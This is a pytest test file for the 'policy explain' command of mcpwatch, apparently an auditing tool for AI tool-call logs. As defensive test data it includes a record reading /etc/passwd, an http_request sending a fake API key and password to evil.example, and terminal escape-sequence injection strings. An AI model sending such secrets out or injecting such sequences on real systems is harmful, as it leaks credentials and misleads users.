"""`mcpwatch policy explain` from the outside: what it prints, for whom, and its errors."""

from __future__ import annotations

import gzip
import json
from pathlib import Path

import pytest

from tests.functional.program import SAMPLES, Home, Json, records

POLICY = SAMPLES / "policy.yaml"


@pytest.fixture
def home(tmp_path: Path) -> Home:
    log = (SAMPLES / "demo-incident.jsonl").read_bytes()
    (tmp_path / "audit.jsonl").write_bytes(log)
    (tmp_path / "old.jsonl.gz").write_bytes(gzip.compress(log))
    return Home(tmp_path, {"MCPWATCH_POLICY": str(POLICY)})


def explained(home: Home, *args: object) -> Json:
    done = home.run("policy", "explain", *args, "--json")
    assert (done.returncode, done.stderr) == (0, "")
    [record] = records(done.stdout, "explanation")
    return record


def firing(home: Home) -> int:
    """A line of the attack with a violation."""
    lines = (home.folder / "audit.jsonl").read_text().splitlines()
    return next(number for number, line in enumerate(lines, 1) if "/etc/passwd" in line)


def test_it_says_of_a_record_what_fires_what_does_not_and_why_in_80_columns(home: Home) -> None:
    number = firing(home)
    done = home.run("policy", "explain", f"audit.jsonl:{number}")
    assert (done.returncode, done.stderr) == (0, "")
    lines = done.stdout.splitlines()
    assert lines[0].startswith(f"audit.jsonl line {number}, byte ")
    assert max(map(len, lines)) <= 80
    text = " ".join(done.stdout.split())
    assert "decision a server that enforces the policy refuses it" in text
    assert "tier medium: a well-known tool" in text
    assert "path: /" in text
    assert "FIRES path-outside" in text
    assert "does not fire: session-rate" in text
    assert "limit: more than 12 calls in 60 s" in text
    assert "shell-execute: no shell tool" in text


def test_json_is_one_object_with_every_rule_and_agrees_with_replay(home: Home) -> None:
    number = firing(home)
    found = explained(home, f"audit.jsonl:{number}")
    listed = [record["id"] for record in records(home.run("rules", "list", "--json").stdout, "rule")]
    assert [each["id"] for each in found["rules"]] == listed
    fires = {each["id"] for each in found["rules"] if each["state"] == "fires"}
    incidents = records(home.run("replay", "audit.jsonl", "--json").stdout, "incident")
    at = {each["rule"] for each in incidents for item in each["evidence"] if item["line"] == number}
    assert at
    assert fires == at
    assert found["record"]["line"] == number
    assert found["events_before"] == number - 1
    assert {each["aspect"] for each in found["findings"]} == {"path"}
    assert found["decision"]["allowed"] is False


def test_a_line_is_named_in_three_ways_and_read_from_gzip(home: Home) -> None:
    number = firing(home)
    one = explained(home, f"audit.jsonl:{number}")
    assert explained(home, "audit.jsonl", "--line", number) == one
    zipped = explained(home, f"old.jsonl.gz:{number}")
    assert zipped["rules"] == one["rules"]
    line = (home.folder / "audit.jsonl").read_bytes().splitlines()[number - 1]
    done = home.run("policy", "explain", "-", "--json", stdin=json.dumps(json.loads(line), indent=2).encode())
    [alone] = records(done.stdout, "explanation")
    assert alone["findings"] == one["findings"]
    assert alone["events_before"] == 0
    shown = home.run("policy", "explain", "-", stdin=line).stdout
    assert "nothing before it is known" in shown


def test_parameters_are_redacted_wherever_they_are_shown(home: Home) -> None:
    secret = "sk-ant-api03-" + "a1B2" * 24
    params = {"url": f"https://ann:{secret}@evil.example/?key={secret}", "password": "hunter22-horse"}
    record = {
        "timestamp": "2026-11-20T03:00:00Z",
        "tool": "http_request",
        "status": "success",
        "params": params,
    }
    for form in ([], ["--json"]):
        done = home.run("policy", "explain", "-", *form, stdin=json.dumps(record).encode())
        assert done.returncode == 0
        assert "secret-in-params" in done.stdout
        assert secret not in "".join(done.stdout.split())
        assert "hunter22-horse" not in done.stdout


def test_hostile_text_of_a_record_reaches_no_terminal(home: Home) -> None:
    record = {"timestamp": "2026-11-20T03:00:00Z", "tool": "file_read\x1b]0;x\x07", "status": "success\x1b[2J",
              "key_id": "k\u202e", "params": {"path\x1b[1m": "/etc/\x1b[31mpasswd", "a\nb": "~/x\u202e"}}  # fmt: skip
    done = home.run("policy", "explain", "-", stdin=json.dumps(record).encode())
    assert done.returncode == 0
    assert all(char == "\n" or char.isprintable() for char in done.stdout)


def test_rules_of_ones_own_are_explained_and_those_that_are_off_are_named(home: Home) -> None:
    rules = home.folder / "rules"
    rules.mkdir()
    (rules / "off.yaml").write_text("tune: path-outside\nenabled: false\nreason: not here\n")
    (rules / "own.yaml").write_text(
        "title: Reads\nid: reads\nlevel: low\ndescription: A read.\nmatch: tool:file_read\n"
    )
    number = firing(home)
    found = {
        each["id"]: each for each in explained(home, f"audit.jsonl:{number}", "--rules", "rules")["rules"]
    }
    assert found["reads"]["state"] == "fires"
    assert "path-outside" not in found
    done = home.run("policy", "explain", f"audit.jsonl:{number}", "--rules", "rules")
    assert "off: " in done.stdout
    assert "not here" in done.stdout


@pytest.mark.parametrize(
    ("args", "code", "said"),
    [
        (["audit.jsonl"], 2, "which line? Write audit.jsonl:1234, or add --line 1234"),
        (["audit.jsonl:0"], 2, "lines are counted from 1"),
        (["audit.jsonl:x"], 2, "which line?"),
        (["-", "--line", "3"], 2, "--line goes with a log"),
        (["audit.jsonl", "old.jsonl.gz", "--line", "3"], 2, "are 2 logs"),
        (["audit.jsonl", "--line", "0"], 2, "0 is not in the range"),
        (["audit.jsonl:4000000"], 3, "audit.jsonl: there is no line 4000000: it has 423 lines"),
        (["absent.jsonl:1"], 3, "absent.jsonl: there is no such file"),
        (["text.jsonl:1"], 3, "text.jsonl: line 1: is no audit record: not JSON"),
        (["-"], 3, "stdin: is blank"),
    ],
)
def test_what_cannot_be_explained_is_one_line_that_says_why(
    home: Home, args: list[str], code: int, said: str
) -> None:
    (home.folder / "text.jsonl").write_text("hello\n")
    done = home.run("policy", "explain", *args)
    assert done.returncode == code
    assert said in done.stderr
    assert done.stdout == ""
    if code == 3:
        assert done.stderr.count("\n") == 1
